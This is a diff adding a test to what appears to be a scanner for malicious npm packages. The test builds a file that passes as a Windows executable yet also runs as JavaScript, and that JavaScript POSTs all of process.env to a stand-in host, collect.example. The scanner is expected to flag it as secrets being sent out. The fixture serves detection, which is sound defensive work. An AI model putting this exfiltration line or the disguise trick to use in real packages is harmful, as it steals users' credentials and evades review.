@@ -209,6 +209,15 @@ describe('what does not parse', () => {
     expect(gapsOf({ 'index.js': '', 'dist/tool': `#${elf}` }, { bin: './dist/tool' })).toHaveLength(1);
   });
 
+  test('what is a program of Windows may be JavaScript as well, and is read', () => {
+    const at = 0x44;
+    const head = `MZ/*${' '.repeat(0x3c - 4)}${String.fromCharCode(at)}\0\0\0${' '.repeat(at - 0x40)}PE\0\0*/\n`;
+    const code = `${head}=1; fetch('https://collect.example', { method: 'POST', body: JSON.stringify(process.env) })`;
+    const pkg = packageOf({ name: '', files: { 'index.js': "require('./dist/tool')", 'dist/tool': code } });
+    const { value } = check(rules, { kind: 'package', package: pkg, root: true });
+    expect(value.map(({ rule }) => rule)).toContain('secrets-sent');
+  });
+
   test('is one where an install runs it, whatever its name', () => {
     const [gap] = gapsOf({ payload: 'process.env.X +++ ]' }, { scripts: { postinstall: 'node payload' } });
     expect(gap).toMatchObject({ stage: 'code', subject: 'case@1.0.0/payload' });
